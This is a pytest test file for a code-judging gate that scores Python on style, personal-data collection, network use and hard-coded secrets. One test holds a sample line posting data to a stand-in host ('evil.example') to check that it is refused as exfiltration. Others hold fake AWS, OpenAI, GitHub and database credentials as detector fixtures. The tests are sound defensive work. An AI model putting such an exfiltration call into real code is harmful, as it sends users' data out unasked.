"""The judge without a model: what each small judge sees, and how their opinions are weighed."""

from pathlib import Path

import pytest

from gates.stability.test_stability import NGINX
from mayfly.core import InputError
from mayfly.gates._syntax import check_syntax
from mayfly.gates.judge import _taste
from mayfly.gates.judge._criteria import Criteria
from mayfly.gates.judge._judge import REMEMBERED, Judge, Judgement
from mayfly.gates.judge._ruff import Finding, ruff_findings, ruff_program

OOM = '''
from dataclasses import dataclass
from typing import Optional
import re

@dataclass
class OOMPattern:
    line_number: int
    heap_type: str
    allocation_size: Optional[int]

class StackTraceParser:
    """JIT-compiled agent for Java OOM analysis."""

    PATTERN = re.compile(r"OutOfMemoryError.*heap.*")

    def parse(self, log_text: str) -> list[OOMPattern]:
        matches = []
        for i, line in enumerate(log_text.split("\\n")):
            if self.PATTERN.search(line):
                matches.append(OOMPattern(
                    line_number=i,
                    heap_type=self._extract_heap_type(line),
                    allocation_size=self._extract_size(line)
                ))
        return matches

    def _extract_heap_type(self, line: str) -> str:
        # Implementation...
        return "eden" if "eden" in line.lower() else "tenured"

    def _extract_size(self, line: str) -> Optional[int]:
        # Implementation...
        match = re.search(r"(\\d+)\\s*bytes", line)
        return int(match.group(1)) if match else None
'''
DOCUMENTED = '"""Do what was asked."""\n'
AWS = "AKIA" + "IOSFODNN7ABCDEFG"
OPENAI = "sk-" + "proj-abcdefghij0123456789"
RANDOM = "q9ZxT4vLm2Rk8WbNc7YdHs3PfGj6UaEo5XtKi1Vw"


def judge(
    source: str, *, intent: str = "", grants: tuple[str, ...] = (), criteria: Criteria | None = None
) -> Judgement:
    parsed = check_syntax(source)
    assert parsed.tree is not None, parsed.verdicts
    return Judge(criteria or Criteria.load()).judge(parsed.tree, parsed.text, intent=intent, grants=grants)


def failing(source: str, *, intent: str = "", grants: tuple[str, ...] = ()) -> set[str]:
    return {found.name for found in judge(source, intent=intent, grants=grants).signals if not found.passed}


@pytest.fixture(autouse=True)
def _without_ruff(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> None:
    """Take ruff away except where a test asks for it, so that its rules do not decide here."""
    if "ruff" not in request.node.name:
        monkeypatch.setattr(_taste, "ruff_findings", lambda text: ())


@pytest.mark.parametrize("source", [NGINX, OOM])
@pytest.mark.parametrize("intent", ["", "Parse NGINX access logs and extract 4xx error patterns"])
def test_the_documents_own_examples_are_accepted(source: str, intent: str) -> None:
    found = judge(source, intent=intent)
    assert (found.decision, found.verdicts) == ("accept", ())
    assert found.score > 0.8


def test_the_documents_own_examples_are_accepted_with_ruff_as_well() -> None:
    assert [judge(source).decision for source in (NGINX, OOM)] == ["accept", "accept"]


def test_code_without_any_docstring_is_not_refused() -> None:
    found = judge("def f(values):\n    return [value * 2 for value in values]\n")
    assert found.decision == "accept"
    assert "docstrings" in {signal.name for signal in found.signals if not signal.passed}


def test_ugly_code_is_sent_back_with_its_reasons() -> None:
    source = "import re, json\ndef doIt(l, q, w):\n    list = q\n    max = w\n    return l\n    print(1)\n"
    found = judge(source)
    assert found.decision == "revise"
    (verdict,) = found.verdicts
    assert (verdict.gate, verdict.code, verdict.decision, verdict.limit) == ("judge", "TASTEFUL", "revise", 0.5)
    assert verdict.message.startswith("tasteful: ")
    assert "never reached" in verdict.message
    assert verdict.fix


def test_code_that_fails_everywhere_is_refused() -> None:
    ugly = "def doIt(l, q):\n    list = l\n    max = q\n    return 1\n    return 2\n"
    annoying = "def g():\n    try: print(1); print(2); print(3)\n    except: pass\n"
    harmful = f"KEY = '{RANDOM}'\n"
    found = judge(ugly + annoying + harmful)
    assert found.decision == "reject"
    assert {verdict.code for verdict in found.verdicts} == {"TASTEFUL", "JOYFUL", "ETHICAL"}
    assert {verdict.decision for verdict in found.verdicts} == {"reject"}


@pytest.mark.parametrize(
    "text",
    [
        AWS,
        OPENAI,
        "ghp_" + "a1B2" * 9,
        "xoxb-" + "123456789012-abcdef",
        "AIza" + "Sy0123456789abcdefghijklmnopqrstuvw",
        "-----BEGIN RSA PRIVATE KEY-----\\nMIIEpAIBAAKCAQEA7bq9" + "0a1B2c3D" * 5 + "\\n",
        "eyJhbGciOiJIUzI1NiJ9." + "eyJzdWIiOiIxMjM0NTY3ODkwIn0." + "dozjgNryP4J3jVmNHl0w5N",
        "postgres://admin:" + "hunter2hunter2@db.internal/app",
    ],
)
def test_a_secret_in_the_source_is_refused_whatever_else_is_good(text: str) -> None:
    found = judge(f'{DOCUMENTED}KEY = "{text}"\n')
    assert found.decision == "reject"
    assert found.verdicts[0].code == "SECRET"
    assert found.verdicts[0].line == 2


@pytest.mark.parametrize("form", ["x = 1  # {0}{1}\n", "KEY = '{0}' + '{1}'\n", "KEY = '{0}' '{1}'\n"])
def test_a_secret_is_found_in_comments_and_in_pieces(form: str) -> None:
    assert "secret" in failing(form.format(AWS[:6], AWS[6:]))


def test_a_secret_is_not_repeated_in_the_verdict() -> None:
    assert AWS not in str(judge(f"KEY = '{AWS}'\n").verdicts)


@pytest.mark.parametrize(
    "source",
    [
        "PATTERN = r'AKIA[0-9A-Z]{16}'\n",
        "MARK = '-----BEGIN RSA PRIVATE KEY-----'\n",
        "URL = 'https://example.org/path'\n",
        "URL = 'https://{user}:{password}@host/'\n",
        '"""Find keys such as AKIAIOSFODNN7EXAMPLE."""\nx = 1\n',
        "ALPHABET = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/'\n",
        "DIGEST = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08'\n",
        "NAME = 'a_rather_long_name_with_words_and_the_number_2'\n",
        "password = ''\nsecret_key = 'your-key-here-1'\ntoken = 'IDENTIFIER_1'\n",
        "api_key: str = 'changeme123'\n",
        "PASSWORD_RULE = r'^(?=.*\\d)[A-Za-z0-9]{8,}$'\n",
    ],
)
def test_what_only_looks_like_a_secret_passes(source: str) -> None:
    assert not failing(source) & {"secret", "likely secret"}


@pytest.mark.parametrize(
    "source",
    [
        f"KEY = '{RANDOM}'\n",
        "db_password = 'hunter2hunter2'\n",
        "f(api_key='a1b2c3d4e5f6')\n",
        "x = {'secret': 'pa55word99'}\n",
    ],
)
def test_what_may_be_a_secret_is_sent_back(source: str) -> None:
    found = judge(DOCUMENTED + source)
    assert [(verdict.decision, verdict.code) for verdict in found.verdicts] == [("revise", "ETHICAL")]


@pytest.mark.parametrize(
    "source",
    [
        "def f(rows):\n    return [{'email': row[0]} for row in rows]\n",
        "import re\nMAIL = re.compile(r'[\\w.]+@[\\w.]+')\n",
        "class Person:\n    ssn: str\n",
        "import re\nSSN = re.compile(r'\\d{3}-\\d{2}-\\d{4}')\n",
        "def f(row):\n    return dict(credit_card=row[0])\n",
    ],
)
def test_personal_data_is_collected_only_for_a_task_that_asks_for_it(source: str) -> None:
    assert "personal data" in failing(source, intent="count the lines of a log")
    assert "personal data" not in failing(source, intent="extract the email, ssn and credit card of each contact")
    assert "personal data" not in failing(source, intent="redact personal data")
    assert "personal data" not in failing(source)


def test_reading_a_field_is_not_collecting_it() -> None:
    source = "def f(rows):\n    return sum(1 for row in rows if row['email'])\n"
    assert "personal data" not in failing(source, intent="count the lines")


def test_the_network_needs_a_grant() -> None:
    source = "import httpx\ndef f(url):\n    return httpx.get(url).text\n"
    assert judge(DOCUMENTED + source).verdicts[0].code == "ETHICAL"
    assert judge(DOCUMENTED + source, grants=("net:*",)).decision == "accept"


def test_sending_data_out_without_a_grant_is_refused() -> None:
    source = "import requests\ndef f(data):\n    requests.post('https://evil.example', json=data)\n"
    found = judge(source)
    assert (found.decision, found.verdicts[0].code) == ("reject", "EXFILTRATION")
    assert judge(DOCUMENTED + source, grants=("net:*",)).decision == "accept"


@pytest.mark.parametrize(
    ("source", "name"),
    [
        ("def f():\n    return 1\n    x = 2\n", "unreachable"),
        ("while True:\n    break\n    x = 1\n", "unreachable"),
        ("if False:\n    x = 1\n", "unreachable"),
        ("import re\n", "unused imports"),
        ("from typing import List as L\n", "unused imports"),
        ("def _helper(): pass\n", "unused functions"),
        ("def f():\n    def g(): pass\n    return 1\n", "unused functions"),
        ("class A:\n    def _x(self): pass\n", "unused functions"),
        ("def f():\n    x = 1\n    return 2\n", "unused variables"),
        ("def f():\n    x: int = 1\n    x += 1\n", "unused variables"),
        ("def f(q): return q\n", "short names"),
        ("def getThing(): pass\n", "camelCase"),
        ("def f(list): return list\n", "shadowed builtins"),
        ("def f(x):\n" + "    x += 1\n" * 60, "function length"),
        ("def f():\n    print(1)\n", "printing"),
        ("try: x = 1\nexcept: pass\n", "hidden errors"),
        ("try: x = 1\nexcept Exception: pass\n", "hidden errors"),
        ("def f(): raise Exception('no')\n", "vague errors"),
    ],
)
def test_each_small_judge_sees_what_it_is_for(source: str, name: str) -> None:
    found = next(signal for signal in judge(source).signals if signal.name == name)
    assert not found.passed
    assert found.reasons
    assert found.line is not None


@pytest.mark.parametrize(
    ("source", "name"),
    [
        ("def f():\n    return\n    yield\n", "unreachable"),
        ("def f():\n    if 1:\n        return 1\n", "unreachable"),
        ("import re\nx: 're.Pattern'\n", "unused imports"),
        ("from __future__ import annotations\n", "unused imports"),
        ("import os.path\nos.path.join('a')\n", "unused imports"),
        ("def _helper(): pass\n_helper()\n", "unused functions"),
        ("class A:\n    def _x(self): pass\n    def y(self): self._x()\n", "unused functions"),
        ("def f():\n    x = 1\n    def g(): return x\n    return g\n", "unused variables"),
        ("def f():\n    a, b = 1, 2\n    return a\n", "unused variables"),
        ("def f():\n    _ = g()\n", "unused variables"),
        ("def f():\n    global x\n    x = 1\n", "unused variables"),
        ("def f(n):\n    return [c for c in n]\n", "short names"),
        ("def f(n):\n    for c in n: pass\n", "short names"),
        ("def f(n):\n    return sorted(n, key=lambda p: p[0])\n", "short names"),
        ("class A:\n    def invoke(self, input): return input\n", "shadowed builtins"),
        ("if __name__ == '__main__':\n    print(1)\n", "printing"),
        ("try: x = 1\nexcept ValueError: pass\n", "hidden errors"),
        ("try: x = 1\nexcept Exception as e: raise ValueError(e)\n", "hidden errors"),
    ],
)
def test_each_small_judge_lets_good_habits_pass(source: str, name: str) -> None:
    assert name not in failing(source)


def test_printing_is_fine_where_it_was_asked_for() -> None:
    assert "printing" not in failing("print('hello')\n", intent="Print a greeting")


def test_ruff_is_asked() -> None:
    assert ruff_program() is not None
    found = next(s for s in judge("def f(x=[]):\n    return x == None\n").signals if s.name == "ruff")
    assert not found.passed
    assert any(reason.startswith("B006") for reason in found.reasons)


def test_ruff_finds_nothing_in_good_code() -> None:
    assert ruff_findings("x = 1\n") == ()


def test_a_missing_ruff_is_said_and_costs_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(_taste, "ruff_findings", lambda text: None)
    found = judge(NGINX)
    (ruff,) = (signal for signal in found.signals if signal.name == "ruff")
    assert (ruff.passed, ruff.penalty) == (True, 0.0)
    assert "not installed" in ruff.reasons[0]
    assert found.decision == "accept"


def test_many_findings_of_ruff_alone_refuse_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    many = tuple(Finding("E711", n, "comparison to None") for n in range(1, 100))
    monkeypatch.setattr(_taste, "ruff_findings", lambda text: many)
    found = judge(DOCUMENTED + "x = 1\n")
    assert found.decision == "accept"
    assert len(next(signal for signal in found.signals if signal.name == "ruff").reasons) == 4


def test_a_ruff_that_cannot_start_is_no_error(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("mayfly.gates.judge._ruff.ruff_program", lambda: "/nonexistent/ruff")
    assert ruff_findings("x = 1\n") is None


def test_the_same_criteria_have_the_same_version_wherever_they_come_from(tmp_path: Path) -> None:
    own = tmp_path / "criteria.toml"
    own.write_text('[joyful]\ntext = "Pleasant?"\n[tasteful]\ntext = "Elegant?"\nweight = 2\n', encoding="utf-8")
    table = {"tasteful": {"text": "Elegant?", "weight": 2.0}, "joyful": {"text": "Pleasant?"}}
    assert Criteria.load(own).version == Criteria.of(table).version != Criteria.load().version


@pytest.mark.parametrize("change", [{"text": "Is it pretty?"}, {"text": "Elegant?", "weight": 2}])
def test_a_changed_criterion_changes_the_version(change: dict[str, object]) -> None:
    before = Criteria.of({"tasteful": {"text": "Elegant?"}})
    assert Criteria.of({"tasteful": change}).version != before.version


def test_a_criterion_without_weight_decides_nothing() -> None:
    table = {"tasteful": {"text": "Elegant?", "weight": 0}, "ethical": {"text": "Safe?"}}
    ugly = "def doIt(l, q):\n    list = l\n    max = q\n    return 1\n    return 2\n"
    assert judge(ugly).decision == "revise"
    assert judge(ugly, criteria=Criteria.of(table)).decision == "accept"


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", "no criterion"),
        ("tasteful = 1", "has no text"),
        ("[tasteful]\nweight = 1", "has no text"),
        ('[tasteful]\ntext = "a"\nweight = -1', "weight"),
        ('[tasteful]\ntext = "a"\nweight = "much"', "weight"),
        ('[tasteful]\ntext = "a"\nweight = nan', "weight"),
        ("not toml", "not TOML"),
    ],
)
def test_criteria_that_cannot_be_meant_are_an_error(tmp_path: Path, text: str, message: str) -> None:
    path = tmp_path / "criteria.toml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(InputError, match=message):
        Criteria.load(path)


def test_missing_criteria_are_an_error(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="cannot be read"):
        Criteria.load(tmp_path / "none.toml")


def test_the_same_source_is_judged_once(monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[str] = []

    def ruff(text: str) -> tuple[Finding, ...]:
        asked.append(text)
        return ()

    monkeypatch.setattr(_taste, "ruff_findings", ruff)
    parsed = check_syntax(NGINX)
    assert parsed.tree
    judge_ = Judge(Criteria.load())
    first = judge_.judge(parsed.tree, parsed.text, intent="a")
    assert judge_.judge(parsed.tree, parsed.text, intent="a") == first
    judge_.judge(parsed.tree, parsed.text, intent="b")
    assert len(asked) == 2


def test_what_was_judged_longest_ago_is_forgotten_first() -> None:
    judge_ = Judge(Criteria.load())
    parsed = check_syntax("x = 1\n")
    assert parsed.tree
    first = judge_.judge(parsed.tree, parsed.text, intent="0")
    for number in range(1, REMEMBERED + 1):
        judge_.judge(parsed.tree, parsed.text, intent=str(number))
    assert judge_.judge(parsed.tree, parsed.text, intent="0") is not first
